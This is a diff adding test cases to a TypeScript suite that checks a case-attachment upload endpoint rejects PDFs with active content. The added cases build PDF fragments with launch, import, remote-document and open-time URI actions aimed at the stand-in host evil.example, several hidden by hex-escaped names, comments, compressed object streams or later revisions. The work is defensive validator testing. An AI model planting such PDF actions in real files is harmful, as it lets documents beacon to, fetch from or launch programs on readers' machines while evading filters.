@@ -130,6 +130,7 @@ const stream = (keys: string, data: Buffer) =>
 const objStm = (text: string, keys = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
   stream(keys, deflateSync(`9 0 ${text}`))
 const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
+const address = '<< /S /URI /URI (https://evil.example/seen) >>'
 
 describe('POST /api/v1/agravos/casos/{id}/anexos: a PDF with active content', () => {
   it.each<[string, Buffer]>([
@@ -166,7 +167,40 @@ describe('POST /api/v1/agravos/casos/{id}/anexos: a PDF with active content', ()
     ['a file, as a specification alone', pdf('2 0 obj << /F (x) /EF << /F 3 0 R >> >> endobj')],
     ['a file, by a reference', pdf('2 0 obj << /EF 3 0 R >> endobj')],
     ['a form with scripts', pdf('2 0 obj << /AcroForm << /XFA [ 3 0 R ] >> >> endobj')],
-    ['a form that is sent away', pdf('2 0 obj << /S /SubmitForm >> endobj')]
+    ['a form that is sent away', pdf('2 0 obj << /S /SubmitForm >> endobj')],
+    ['data that are fetched', pdf('2 0 obj << /S /ImportData /F (//evil.example/x.fdf) >> endobj')],
+    ['a program on another machine', pdf('2 0 obj << /A << /S /Launch /F (//evil.example/x) >> >> endobj')],
+    ['another document', pdf('2 0 obj << /S /GoToR /F (//evil.example/x.pdf) /D [0] >> endobj')],
+    ['another document, by its digits', pdf('2 0 obj << /S /GoTo#52 /F (//evil.example/x.pdf) >> endobj')],
+    ['another document, compressed', pdf(objStm('<< /S /GoToR /F (//evil.example/x.pdf) >>'))],
+    ['a document within one', pdf('2 0 obj << /S /GoToE /F (//evil.example/x.pdf) >> endobj')],
+    ['an article elsewhere', pdf('2 0 obj << /S /Thread /F (//evil.example/x.pdf) >> endobj')],
+    ['a film', pdf('2 0 obj << /Subtype /Movie /Movie << /F (http://evil.example/x) >> >> endobj')],
+    ['a file at an address', pdf('2 0 obj << /X << /FS /URL /F (http://evil.example/x) >> >> endobj')],
+    ['a stream from a file', pdf(stream('/F (//evil.example/x)', Buffer.from('')))],
+    ['a stream from a file, by its digits', pdf(stream('/#46 << /UF (//evil.example/x) >>', Buffer.from('')))],
+    ['a stream from a compressed file', pdf(stream('/FFilter /FlateDecode', Buffer.from('')))],
+    ['a page of another file', pdf(stream('/Subtype /Form /Ref << /F (//evil.example/x) >>', Buffer.from('')))],
+    ['a picture of a printer', pdf(stream('/Subtype /Image /OPI << /2.0 << /F (x) >> >>', Buffer.from('')))],
+    ['an address at the opening', pdf(`2 0 obj << /OpenAction ${address} >> endobj`)],
+    ['the same in hexadecimal digits', pdf(`2 0 obj << /Open#41ction << /S /#55RI /#55RI (x) >> >> endobj`)],
+    ['the same behind a comment', pdf(`2 0 obj << /OpenAction %x\n ${address} >> endobj`)],
+    ['the same by a reference', pdf('2 0 obj << /OpenAction 7 0 R >> endobj', `7 0 obj ${address} endobj`)],
+    ['the same by a reference to nothing', pdf('2 0 obj << /OpenAction 7 0 R >> endobj', `8 0 obj ${address} endobj`)],
+    ['the same, compressed', pdf('2 0 obj << /OpenAction 9 0 R >> endobj', objStm(address))],
+    ['all of it compressed', pdf(objStm(`<< /OpenAction ${address} >>`))],
+    [
+      'the same after a change',
+      pdf('2 0 obj << /OpenAction 7 0 R >> endobj', '7 0 obj [3 0 R /Fit] endobj', '%%EOF', `7 0 obj ${address} endobj`)
+    ],
+    ['the same before a change', pdf(`2 0 obj << /OpenAction ${address} >> endobj`, '2 0 obj << >> endobj')],
+    [
+      'the same behind a harmless action',
+      pdf(`2 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${address} >> >> endobj`)
+    ],
+    ['an address at the turning of a page', pdf(`2 0 obj << /AA << /O ${address} >> >> endobj`)],
+    ['the same by a reference to it', pdf('2 0 obj << /A#41 7 0 R >> endobj', `7 0 obj << /O ${address} >> endobj`)],
+    ['the same behind a long comment', pdf(`2 0 obj << /AA %${'x'.repeat(300)}\n<< /O ${address} >> >> endobj`)]
   ])('422 ACTIVE_CONTENT: %s', async (_, content) => {
     const before = [await anexoRows(test, caso), await storedFiles(test, caso)]
     const answer = await uploadAnexo(test, analista.token, caso, [filePart(content)])
@@ -181,6 +215,28 @@ describe('POST /api/v1/agravos/casos/{id}/anexos: a PDF with active content', ()
       'links, names that only begin so, and a form',
       pdf('2 0 obj << /A << /S /URI /URI (https://x) >> /Launchpad 1 /AcroForm << >> >> endobj')
     ],
+    ['a link that is clicked on', pdf(`2 0 obj << /Subtype /Link /F 4 /A ${address} >> endobj`)],
+    ['a link by a reference', pdf('2 0 obj << /Subtype /Link /A 7 0 R >> endobj', `7 0 obj ${address} endobj`)],
+    ['compressed links', pdf(objStm(`<< /Annots [ << /Subtype /Link /F 4 /A ${address} >> ] >>`))],
+    [
+      'links, and a page at which it opens',
+      pdf('2 0 obj << /OpenAction [3 0 R /FitH null] >> endobj', `3 0 obj << /A ${address} >> endobj`)
+    ],
+    [
+      'links, and an action that goes to its first page',
+      pdf(`2 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] >> /A ${address} >> endobj`)
+    ],
+    [
+      'the same by a reference, compressed',
+      pdf(
+        '2 0 obj << /OpenAction 9 0 R >> endobj',
+        objStm('<< /S /GoTo /D [3 0 R /Fit] >>'),
+        `4 0 obj ${address} endobj`
+      )
+    ],
+    ['actions that stay inside', pdf('2 0 obj << /AA << /O << /S /Named /N /NextPage >> >> >> endobj')],
+    ['an article', pdf('2 0 obj << /Type /Thread /F 3 0 R >> endobj')],
+    ['a font with a short name', pdf('2 0 obj << /Font << /F 3 0 R >> >> endobj')],
     ['the words in a text', pdf('2 0 obj << /Title (JavaScript Launch) >> endobj')],
     ['a stream of objects', pdf(objStm('<< /Type /Page /EF /None >>'))],
     [
@@ -202,7 +258,19 @@ describe('POST /api/v1/agravos/casos/{id}/anexos: a PDF with active content', ()
   it('a hostile file makes nobody wait', async () => {
     const path = join(test.dataDir, 'hostil.pdf')
     const loop = watchLoop()
-    for (const text of ['/J#61', '(', 'obj<<', '1 0 obj<</A(', 'obj<</N 1/First 1>>stream\n', '<html', '\\(']) {
+    for (const text of [
+      '/J#61',
+      '(',
+      'obj<<',
+      '1 0 obj<</A(',
+      'obj<</N 1/First 1>>stream\n',
+      '<html',
+      '\\(',
+      '/FS(',
+      '/OpenAction<<',
+      '/AA<',
+      '5 0 obj[/OpenAction 5 0 R/URI '
+    ]) {
       await writeFile(path, pdf(Buffer.alloc(4 * 1024 * 1024, text)))
       await readPdf(path, 20 * 1024 * 1024)
     }
